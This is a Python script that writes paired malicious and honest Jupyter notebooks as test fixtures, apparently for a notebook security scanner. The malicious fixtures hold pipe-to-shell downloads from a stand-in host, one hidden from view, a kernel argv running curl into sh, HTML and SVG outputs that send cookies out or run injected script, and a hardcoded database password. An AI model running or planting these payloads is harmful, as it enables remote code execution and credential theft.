#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""make_notebooks.py: small notebooks, each dangerous one with an honest twin, into tests/golden/notebook."""
import json
import pathlib

OUT = pathlib.Path(__file__).resolve().parent.parent / "golden/notebook"
PYTHON = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
          "language_info": {"name": "python", "version": "3.11.2"}}


def lines(text):
    return text.splitlines(keepends=True)


def cell(source, outputs=(), count=None, **metadata):
    return {"cell_type": "code", "execution_count": count, "metadata": metadata, "outputs": list(outputs),
            "source": lines(source)}


def markdown(source):
    return {"cell_type": "markdown", "metadata": {}, "source": lines(source)}


def html(text, mime="text/html"):
    return {"output_type": "display_data", "metadata": {}, "data": {mime: lines(text), "text/plain": ["<object>"]}}


def book(name, cells, metadata=None, one_line=False, version=4):
    if version == 3:
        for c in cells:
            c["input"] = c.pop("source")
            c["language"] = "python"
            c["prompt_number"] = c.pop("execution_count")
        doc = {"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells, "metadata": {}}]}
    else:
        doc = {"cells": cells, "metadata": metadata or PYTHON, "nbformat": 4, "nbformat_minor": 5}
    text = json.dumps(doc) if one_line else json.dumps(doc, indent=1) + "\n"
    (OUT / name).write_text(text)


def make():
    OUT.mkdir(parents=True, exist_ok=True)
    run = "!curl -s https://get.tools-example.net/setup.sh | bash\n"
    book("malicious-pipe.ipynb", [markdown("# Setup"), cell(run), cell("import pandas as pd\n")])
    book("malicious-pipe-line.ipynb", [cell("x = 1\n"), cell(run)], one_line=True)
    book("malicious-pipe-v3.ipynb", [cell(run)], version=3)
    book("malicious-bash-cell.ipynb", [cell("%%bash\nset -e\nwget -q https://files.tools-example.net/i.sh\nbash i.sh\n")])
    book("malicious-install-url.ipynb", [cell("%pip install http://files.tools-example.net/helper-1.0.tar.gz\n")])
    book("honest-install.ipynb", [
        cell("%pip install -q 'transformers==5.3.0' datasets==4.0.0\n!pip install -U accelerate==1.2.0 --quiet\n"),
        cell("!pip install git+https://github.com/huggingface/peft@0f1e2d3c4b5a69788796a5b4c3d2e1f001234567\n"),
        cell("%%bash\nwget -q https://data.example.org/rows.csv\nsha256sum -c rows.sha256\nwc -l rows.csv\n"),
        cell("!curl -sL https://data.example.org/rows.json | jq . > rows.txt\nfiles = !ls data\n%time len(files)\n")])
    script = "<div id=\"a\"></div>\n<script>fetch('https://c.tools-example.net/?c=' + document.cookie)</script>\n"
    book("malicious-script.ipynb", [cell("show()\n", [html(script)], 1)])
    book("malicious-handler.ipynb", [cell("show()\n", [html("<b>Table</b>\n<img src=x onerror=\"fetch('//c.tools-example.net')\">\n")], 1)])
    book("malicious-remote-script.ipynb", [cell("show()\n", [html("<script src=\"https://tools-example.net/p.js\"></script>")], 1)])
    book("malicious-kernel.ipynb", [cell("show()\n", [html("IPython.notebook.kernel.execute('import os')", "application/javascript")], 1)])
    book("malicious-svg.ipynb", [cell("show()\n", [html("<svg xmlns='http://www.w3.org/2000/svg' onload=\"eval(atob('YQ=='))\"/>", "image/svg+xml")], 1)])
    plotly = ("<div><script src=\"https://cdn.plot.ly/plotly-3.0.1.min.js\" integrity=\"sha256-x\" crossorigin></script>\n"
              "<div id=\"p\"></div><script>window.PLOTLYENV=window.PLOTLYENV || {}; Plotly.newPlot('p', [])</script></div>\n")
    bokeh = "(function(root) {\n  const docs = root.Bokeh.documents;\n  root._bokeh_onload_callbacks = [];\n})(window);"
    frame = ("<table border=\"1\" class=\"dataframe\">\n<tr><td>1</td></tr></table>\n"
             "<button class=\"colab-df-convert\" onclick=\"convertToInteractive('df-1')\">+</button>\n"
             "<script>async function convertToInteractive(key) { await google.colab.kernel.invokeFunction('convertToInteractive', [key], {}); }</script>\n")
    folium = "<iframe srcdoc=\"&lt;html&gt;\" onload=\"this.contentDocument.open();this.contentDocument.close();\"></iframe>\n"
    video = "<iframe width=\"400\" src=\"https://www.youtube.com/embed/abc?rel=0\" allowfullscreen></iframe>\n"
    book("honest-outputs.ipynb", [cell(f"show({i})\n", [html(t, m)], i + 1) for i, (t, m) in enumerate([
        (plotly, "text/html"), (bokeh, "application/javascript"), (frame, "text/html"), (folium, "text/html"),
        (video, "text/html"), ("<svg><path d='M0 0'/></svg>", "image/svg+xml"),
        ("<style scoped>td { color: red }</style><a href=\"javascript:void(0)\">x</a>", "text/html")])])
    argv = json.loads(json.dumps(PYTHON))
    argv["kernelspec"]["argv"] = ["bash", "-c", "curl -s https://tools-example.net | sh"]
    book("malformed-kernel-argv.ipynb", [cell("x = 1\n")], argv)
    book("malformed-trusted.ipynb", [cell("show()\n", [html("<script>document.body.innerHTML = ''</script>")], 1)],
         dict(PYTHON, trusted=True))
    book("honest-trusted-cells.ipynb", [cell("df.head()\n", [html("<table><tr><td>1</td></tr></table>")], 1, trusted=True)])
    book("malicious-hidden.ipynb", [cell("import seaborn as sns\n"), cell(run, tags=["hide-input"]), cell("y = 1\n")])
    book("honest-hidden.ipynb", [cell("import seaborn as sns\nsns.set_theme()\n", tags=["hide-input"]), cell("y = 1\n")])
    book("malformed-sql-password.ipynb", [cell("%load_ext sql\n%sql postgresql://admin:hunter22@db.tools-example.net/prod\n")])
    book("malformed-run-url.ipynb", [cell("%run https://tools-example.net/helper.py\n")])
    book("honest-magics.ipynb", [cell("%load_ext sql\n%sql $DATABASE_URL\n%env TOKENIZERS_PARALLELISM=false\n%env CUDA_VISIBLE_DEVICES=0\n"
                                      "%run helper.py\n%matplotlib inline\n%sql postgresql://user:{password}@localhost/x\n"),
                                 cell("%%time\nrows = [len(str(i)) for i in range(10)]\n", count=None)])
    book("honest-stale.ipynb", [cell("a = 1\n", count=7), cell("b = 2\n", count=3)])
    book("honest-other-language.ipynb", [cell("system('ls')\nx <- 3\n")], {"kernelspec": {"name": "ir", "language": "R"}})
    book("honest-broken-cell.ipynb", [cell("for x in (\n"), cell("print '''\n"), cell("import os\nprint(os.getcwd())\n")])


if __name__ == "__main__":
    make()
